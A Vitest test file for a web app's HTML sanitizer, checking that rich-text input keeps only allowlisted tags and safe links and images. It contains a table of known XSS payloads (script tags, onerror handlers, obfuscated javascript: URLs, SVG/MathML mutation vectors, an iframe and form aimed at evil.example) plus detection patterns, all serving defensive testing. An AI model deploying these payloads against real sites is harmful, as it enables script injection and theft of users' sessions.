import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { UPLOAD_PATH } from '#shared/schemas/fields.ts';
import { htmlToText, sanitizeRichText } from './sanitize.ts';

// The checks below read the sanitized HTML the way a browser would start to: every `<` must open
// one of the allowed tags with double-quoted attributes, and nothing else may look like markup.

const ALLOWED: Record<string, string[]> = {
  h2: [],
  h3: [],
  h4: [],
  p: [],
  br: [],
  hr: [],
  blockquote: [],
  ul: [],
  ol: [],
  li: [],
  strong: [],
  b: [],
  em: [],
  i: [],
  u: [],
  s: [],
  code: [],
  pre: [],
  a: ['href', 'rel', 'target'],
  img: ['src', 'alt', 'width', 'height'],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['colspan', 'rowspan'],
  td: ['colspan', 'rowspan'],
};

const TAG = /<(\/?)([a-z0-9]+)((?:\s[a-z-]+="[^"<>]*")*)\s*(\/?)>/y;
const ATTRIBUTE = /\s([a-z-]+)="([^"<>]*)"/g;

function decode(value: string): string {
  return value.replace(/&(?:amp|lt|gt|quot|#x338);/g, (e) => ({ '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"' })[e] ?? '\u0338');
}

/** Everything in `html` that the allowlist does not permit, as readable findings. */
function violations(html: string): string[] {
  const found: string[] = [];
  let at = 0;
  for (let open = html.indexOf('<'); open !== -1; open = html.indexOf('<', at)) {
    if (html.slice(at, open).includes('>')) found.push(`a bare ">" in text before ${open}`);
    TAG.lastIndex = open;
    const m = TAG.exec(html);
    if (!m) {
      found.push(`not a well-formed tag at ${open}: ${html.slice(open, open + 40)}`);
      at = open + 1;
      continue;
    }
    at = TAG.lastIndex;
    const [, closing, name = '', attributes = ''] = m;
    const allowed = ALLOWED[name];
    if (!allowed) {
      found.push(`tag <${name}>`);
      continue;
    }
    if (closing && attributes) found.push(`attributes on </${name}>`);
    const attrs = new Map([...attributes.matchAll(ATTRIBUTE)].map(([, k = '', v = '']) => [k, decode(v)]));
    for (const [k, v] of attrs) {
      if (!allowed.includes(k)) found.push(`attribute ${k} on <${name}>`);
      if (/^\s*(?:javascript|vbscript|data):/i.test(v.replace(/[\s\u0000-\u001f]/g, ''))) found.push(`${k}="${v}"`);
    }
    if (name === 'a' && !closing) {
      const href = attrs.get('href') ?? '';
      if (!/^(?:https?:\/\/|mailto:)/i.test(href)) found.push(`link to ${href}`);
      if (/^https?:/i.test(href) && (attrs.get('rel') !== 'noopener noreferrer nofollow' || attrs.get('target') !== '_blank')) {
        found.push(`link without rel/target: ${m[0]}`);
      }
    }
    if (name === 'img' && !UPLOAD_PATH.test(attrs.get('src') ?? '')) found.push(`image from ${attrs.get('src')}`);
    for (const k of ['width', 'height', 'colspan', 'rowspan']) {
      if (attrs.has(k) && !/^\d+$/.test(attrs.get(k) ?? '')) found.push(`${k}="${attrs.get(k)}"`);
    }
  }
  if (html.slice(at).includes('>')) found.push('a bare ">" in trailing text');
  return found;
}

/** The plain checks of the security review, independent of the parser above. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const tags = html.match(/<[^>]*>/g) ?? [];
  for (const word of ['script', 'iframe', 'svg', 'math', 'object', 'embed', 'style', 'base', 'meta', 'form']) {
    if (new RegExp(`<${word}`, 'i').test(html)) found.push(`<${word}`);
  }
  for (const tag of tags) {
    const names = tag.replace(/"[^"]*"/g, '""');
    if (/[\s/]on\w+\s*=/i.test(names)) found.push(`event handler in ${tag}`);
    for (const [, value = ''] of tag.matchAll(/="([^"]*)"/g)) {
      if (/javascript:|vbscript:|data:/i.test(decode(value))) found.push(`URL scheme in ${tag}`);
    }
  }
  return found;
}

function expectHarmless(payload: string): string {
  const out = sanitizeRichText(payload);
  expect(violations(out), `${payload}\n→ ${out}`).toEqual([]);
  expect(dangers(out), `${payload}\n→ ${out}`).toEqual([]);
  expect(sanitizeRichText(out), `not stable: ${payload}`).toBe(out);
  return out;
}

// Known payloads, each with what must be left of it.
const KNOWN: [string, string][] = [
  ['<script>alert(1)</script>', ''],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', ''],
  ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
  ['<img src=x onerror=alert(1)>', ''],
  ['<IMG SRC="/api/webdata/a.png" OnErRoR="alert(1)">', '<img src="/api/webdata/a.png" alt="" />'],
  ['<img src="/api/webdata/a.png"\nonerror\n=\nalert(1)>', '<img src="/api/webdata/a.png" alt="" />'],
  ['<img/src="/api/webdata/a.png"/onerror=alert(1)>', '<img src="/api/webdata/a.png" alt="" />'],
  ['<body onload=alert(1)>본문</body>', '본문'],
  ['<p onmouseover="alert(1)">글</p>', '<p>글</p>'],
  ['<b onmouseover\t=\talert(1)>굵게</b>', '<b>굵게</b>'],
  ['<a href="javascript:alert(1)">링크</a>', '링크'],
  ['<a href="JaVaScRiPt:alert(1)">링크</a>', '링크'],
  ['<a href="  javascript:alert(1)">링크</a>', '링크'],
  ['<a href="java\tscript:alert(1)">링크</a>', '링크'],
  ['<a href="java\nscript:alert(1)">링크</a>', '링크'],
  ['<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">링크</a>', '링크'],
  ['<a href="javascript&colon;alert(1)">링크</a>', '링크'],
  ['<a href="&#x6A;avascript&#x3A;alert(1)">링크</a>', '링크'],
  ['<a href="vbscript:msgbox(1)">링크</a>', '링크'],
  ['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">링크</a>', '링크'],
  ['<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', ''],
  ['<a href="/board/1">상대 경로</a>', '상대 경로'],
  ['<svg onload=alert(1)>', ''],
  ['<svg><animate onbegin=alert(1) attributeName=x dur=1s>', ''],
  ['<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>클릭</text></a></svg>', ''],
  ['<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', ''],
  ['<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">클릭</maction></math>', ''],
  ['<iframe src="https://evil.example"></iframe>뒤', '뒤'],
  ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', ''],
  ['<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">', ''],
  ['<style>body{background:url(javascript:alert(1))}</style>', ''],
  ['<p style="width: expression(alert(1))">글</p>', '<p>글</p>'],
  ['<div style="background:url(javascript:alert(1))">글</div>', '글'],
  ['<base href="https://evil.example/">', ''],
  ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', ''],
  ['<form action="https://evil.example"><input name="pw"><button formaction="javascript:alert(1)">보내기</button></form>', '보내기'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
  ['<svg><p><style><img src=x onerror=alert(1)></style>', ''],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
  ['<template><img src=x onerror=alert(1)></template>', ''],
  ['<textarea><img src=x onerror=alert(1)></textarea>', ''],
  ['<title><img src=x onerror=alert(1)></title>', ''],
  ['<!--<img src="--><img src=x onerror=alert(1)//">', ''],
  ['<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', ''],
  ['<![CDATA[<img src=x onerror=alert(1)>]]>', ''],
  ['<img src="x" onerror="alert(1)"', ''],
  ['<p>열린 <b>태그', '<p>열린 <b>태그</b></p>'],
  ['<img src="https://evil.example/x.png">', ''],
  ['<img src="//evil.example/x.png">', ''],
  ['<img src="/api/webdata/../admin">', ''],
  ['<img src="/api/webdata/%2e%2e/admin">', ''],
  ['<p>&#x338; onmouseover=alert(1) x</p>', '<p>&#x338; onmouseover=alert(1) x</p>'],
];

describe('sanitizeRichText: known XSS payloads', () => {
  test.each(KNOWN)('%s', (payload, expected) => {
    expect(expectHarmless(payload)).toBe(expected);
  });
});

// The XSS payload lists kept with the tests (tests/fixtures/security-data/README.md).
const XSS_DIR = path.resolve(import.meta.dirname, '../../../tests/fixtures/security-data/xss');
const FILES = fs
  .readdirSync(XSS_DIR)
  .filter((f) => f.endsWith('.txt'))
  .sort();
const LINES = FILES.flatMap((file) =>
  fs
    .readFileSync(path.join(XSS_DIR, file), 'utf8')
    .split(/\r?\n/)
    .map((payload, i) => ({ name: `${file}:${i + 1}`, payload }))
    .filter(({ payload }) => payload.trim() !== ''),
);

describe('sanitizeRichText: the payload lists', () => {
  test('the lists are there', () => {
    expect(FILES.length).toBeGreaterThanOrEqual(4);
    expect(LINES.length).toBeGreaterThan(400);
  });

  test.each(LINES)('$name', ({ payload }) => {
    expectHarmless(payload);
  });

  // Some vectors span lines, so each file is also sanitized as one document.
  test.each(FILES)('%s as one document', (file) => {
    expectHarmless(fs.readFileSync(path.join(XSS_DIR, file), 'utf8'));
  });
});

describe('sanitizeRichText: what survives', () => {
  test('headings, paragraphs, emphasis and lists stay exactly as written', () => {
    const html = '<h2>제목</h2><p><strong>굵게</strong> <em>기울임</em></p><ul><li>하나</li></ul>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  test('every allowed formatting tag stays', () => {
    const html =
      '<h3>a</h3><h4>b</h4><blockquote><p>인용</p></blockquote><ol><li><b>1</b><i>2</i><u>3</u><s>4</s></li></ol>' +
      '<pre><code>const a = 1;</code></pre><hr /><p>줄<br />바꿈</p>' +
      '<table><thead><tr><th>항목</th></tr></thead><tbody><tr><td colspan="2">값</td></tr></tbody></table>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  test('web links get rel and target; those given are replaced', () => {
    expect(sanitizeRichText('<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">보기</a>')).toBe(
      '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">보기</a>',
    );
    expect(sanitizeRichText('<a href="http://example.com">보기</a>')).toBe(
      '<a href="http://example.com" rel="noopener noreferrer nofollow" target="_blank">보기</a>',
    );
  });

  test('mailto links are kept without target', () => {
    expect(sanitizeRichText('<a href="mailto:help@example.com" target="_blank">문의</a>')).toBe(
      '<a href="mailto:help@example.com">문의</a>',
    );
  });

  test('our uploaded image is kept with its alt text and numeric size', () => {
    expect(sanitizeRichText('<img src="/api/webdata/2025/01/a-1.png" alt="가게 사진" width="640" height="auto" title="x">')).toBe(
      '<img src="/api/webdata/2025/01/a-1.png" alt="가게 사진" width="640" />',
    );
  });

  test('an image from another host is removed, the text around it stays', () => {
    expect(sanitizeRichText('<p>앞<img src="https://other.example/a.png" alt="x">뒤</p>')).toBe('<p>앞뒤</p>');
  });

  test('the text of div, span and font is kept without the tags, classes and styles', () => {
    expect(sanitizeRichText('<div class="x" style="color:red"><span>안녕</span> <font color="red">하세요</font></div>')).toBe(
      '안녕 하세요',
    );
    expect(sanitizeRichText('<p class="lead" id="top" style="color:red">글</p>')).toBe('<p>글</p>');
  });

  test('plain text stays, escaped', () => {
    expect(sanitizeRichText('가격 < 1000 && 할인 > 10% "특가"')).toBe('가격 &lt; 1000 &amp;&amp; 할인 &gt; 10% "특가"');
    expect(sanitizeRichText('')).toBe('');
  });

  test('Korean, emoji, mixed scripts and long words are kept', () => {
    const family = '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}';
    const text = `한인 모임 🎉${family} café Ελληνικά العربية 日本語 ${'가'.repeat(500)} Donaudampfschifffahrtsgesellschaft`;
    expect(sanitizeRichText(`<p>${text}</p>`)).toBe(`<p>${text}</p>`);
  });

  test('text is normalized to NFC, also when it came as character references', () => {
    expect(sanitizeRichText('<p>\u1100\u1161\u11A8 cafe\u0301</p>')).toBe('<p>각 café</p>');
    expect(sanitizeRichText('<p>&#x1100;&#x1161;</p>')).toBe('<p>가</p>');
    expect(sanitizeRichText('<img src="/api/webdata/a.png" alt="\u1100\u1161">')).toBe('<img src="/api/webdata/a.png" alt="가" />');
  });

  test('a combining U+0338 cannot join a tag end, even if the output is normalized again', () => {
    const out = sanitizeRichText('<p>\u0338<b>x</b>\u0338</p>');
    expect(out).toBe('<p>&#x338;<b>x</b>&#x338;</p>');
    expect(violations(out.normalize('NFC'))).toEqual([]);
  });
});

describe('htmlToText', () => {
  test('paragraphs become words separated by a space, entities decoded', () => {
    expect(htmlToText('<p>식당을</p><p>찾습니다&amp;</p>')).toBe('식당을 찾습니다&');
  });

  test('inline tags do not split words; block tags and line breaks do', () => {
    expect(htmlToText('<h2>제목</h2><p><b>굵</b>게 쓴 글<br>다음 줄</p><ul><li>하나</li><li>둘</li></ul>')).toBe(
      '제목 굵게 쓴 글 다음 줄 하나 둘',
    );
    expect(htmlToText('<table><tr><td>가</td><td>나</td></tr></table><div>다</div>')).toBe('가 나 다');
  });

  test('scripts, styles and comments leave no text', () => {
    expect(htmlToText('<style>p{}</style><script>alert(1)</script><!-- 메모 --><p>본문</p>')).toBe('본문');
  });

  test('whitespace collapses, escaped markup reads as text, NFC', () => {
    expect(htmlToText('  <p>a\n\n\t b&nbsp;&nbsp;c</p>  ')).toBe('a b c');
    expect(htmlToText('&lt;script&gt; &amp;lt; &quot;인용&quot;')).toBe('<script> &lt; "인용"');
    expect(htmlToText('cafe\u0301 &#x1100;&#x1161;')).toBe('café 가');
  });

  // The result is text, not HTML: `&lt;b&gt;` comes back as `<b>`, and pages must escape it.
  test('no tag of a payload is left in its text', () => {
    const withoutEntities = LINES.filter(({ payload }) => !payload.includes('&'));
    expect(withoutEntities.length).toBeGreaterThan(300);
    for (const { payload } of withoutEntities) {
      expect(htmlToText(payload), payload).not.toMatch(/<(?:script|img|svg|iframe|a|body|input)\b/i);
    }
  });
});
